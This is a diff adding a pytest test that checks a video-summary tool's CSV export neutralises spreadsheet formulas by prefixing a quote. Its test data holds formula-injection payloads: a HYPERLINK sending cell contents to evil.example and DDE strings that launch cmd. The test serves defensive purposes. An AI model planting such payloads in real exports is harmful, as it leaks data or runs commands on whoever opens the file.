@@ -148,3 +148,59 @@ def test_cli_errors_are_clean(cli_env: str, args: list[str], message: str) -> No
     assert result.exit_code == 2
     assert message in result.output
     assert "Traceback" not in result.output
+
+
+# Cells a spreadsheet would run as formulas (titles come from YouTube, summaries from the model).
+FORMULAS = {
+    "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "summary": "+cmd|' /C calc'!A0",
+    "error": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def make_formula_job(url: str) -> int:
+    now = datetime.now(timezone.utc)
+    with session_scope(url) as s:
+        job = Job(sources=["csv:x"], model="tiny/model", options={})
+        done = Video(job=job, video_id="-vidFormula", title=FORMULAS["title"], position=0, status="done")
+        failed = Video(job=job, video_id="vidTab00001", title="\t=1+2", position=1, status="failed",
+                       error=FORMULAS["error"])
+        s.add_all([job, done, failed])
+        batch = Batch(id="batch-f", worker_host="gpu@box", devices="cpu", model="tiny/model", dtype="fp32",
+                      attn_implementation="sdpa", engine="hf", chunk_size=2, batch_size=1, prompt_tokens=9,
+                      padded_prompt_tokens=9, generated_tokens=3, wall_s=0.5, generated_tokens_per_s=6.0,
+                      started_at=now, ended_at=now)
+        s.add(Summary(video=done, batch=batch, text=FORMULAS["summary"], model="tiny/model", prompt_tokens=9,
+                      generated_tokens=3, finish_reason="stop", queue_wait_s=-0.25, latency_s=1.0))
+        s.flush()
+        return job.id
+
+
+def test_export_csv_neutralises_formulas_and_jsonl_stays_exact(cli_env: str, tmp_path: Path) -> None:
+    """Through the real `tubesum` command: every text cell that starts like a formula gets a leading
+    quote in CSV (shown as text by Excel, LibreOffice and Google Sheets); numbers stay numbers;
+    JSON Lines carries the exact text."""
+    import os
+    import subprocess
+
+    job_id = make_formula_job(cli_env)
+    env = {**os.environ, "TUBESUM_DATABASE_URL": cli_env}
+    for name in ("job.csv", "job.jsonl"):
+        done = subprocess.run(["tubesum", "export", str(job_id), "-o", str(tmp_path / name)], env=env,
+                              capture_output=True, text=True, timeout=60)
+        assert done.returncode == 0, done.stderr
+    with (tmp_path / "job.csv").open(newline="", encoding="utf-8") as f:
+        first, second = list(csv.DictReader(f))
+    assert first["title"] == "'" + FORMULAS["title"]
+    assert first["summary"].startswith("'+cmd")
+    assert first["video_id"] == "'-vidFormula"
+    assert second["error"].startswith("'@SUM")
+    assert second["title"] == "'\t=1+2"
+    assert first["queue_wait_s"] == "-0.25"  # a number, not a formula
+    for row in (first, second):
+        for column, value in row.items():
+            assert not value or value[0] not in "=+@\t\r" and not (value[0] == "-" and column != "queue_wait_s"), (column, value)
+    exact = [json.loads(line) for line in (tmp_path / "job.jsonl").read_text(encoding="utf-8").splitlines()]
+    assert (exact[0]["title"], exact[0]["summary"], exact[1]["error"]) == (
+        FORMULAS["title"], FORMULAS["summary"], FORMULAS["error"])
+    assert exact[0]["video_id"] == "-vidFormula" and exact[1]["title"] == "\t=1+2"
